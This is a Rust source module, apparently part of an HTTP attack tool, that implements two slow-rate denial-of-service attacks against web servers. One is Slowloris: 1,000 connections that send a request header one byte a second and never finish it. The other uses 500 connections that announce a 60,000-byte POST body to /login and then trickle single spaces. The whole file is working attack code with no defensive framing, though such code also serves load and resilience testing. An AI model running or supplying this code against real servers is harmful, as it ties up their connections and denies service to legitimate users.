//! Requests that take for ever to arrive.

use std::time::Duration;

use crate::attack::foothold::Foothold;
use crate::attack::requests::put_post_head;
use crate::attack::script::{Force, Habits};

const HEADS: usize = 1_000;
const BODIES: usize = 500;
/// Of a body that is announced.
const BODY_BYTES: usize = 60_000;
/// What a head goes on with once it has begun.
const FIELD: &[u8] = b"X-Slow: 1\r\n";

/// A byte a second, until the server has had enough.
const HABITS: Habits = Habits {
    every: Duration::from_secs(1),
    reads: true,
    awaits: false,
    stays: Duration::from_secs(60),
    rests: Duration::from_millis(500),
};

/// Slowloris: heads without an end.
pub(super) fn heads(foothold: &Foothold) -> Force {
    let begin = format!("GET / HTTP/1.1\r\nHost: {}\r\n", foothold.host());
    Force {
        connections: HEADS,
        habits: HABITS,
        script: Box::new(move |_| {
            let begin = begin.clone().into_bytes();
            Box::new(move |turn, out: &mut Vec<u8>| {
                let turn = turn as usize;
                let field = FIELD[turn.saturating_sub(begin.len()) % FIELD.len()];
                out.push(begin.get(turn).copied().unwrap_or(field));
            })
        }),
    }
}

/// Bodies of which a byte comes now and then.
pub(super) fn bodies(foothold: &Foothold) -> Force {
    let host = foothold.host();
    Force {
        connections: BODIES,
        habits: HABITS,
        script: Box::new(move |_| {
            let host = host.clone();
            Box::new(move |turn, out: &mut Vec<u8>| match turn {
                0 => put_post_head("/login", &host, BODY_BYTES, out),
                _ => out.push(b' '),
            })
        }),
    }
}
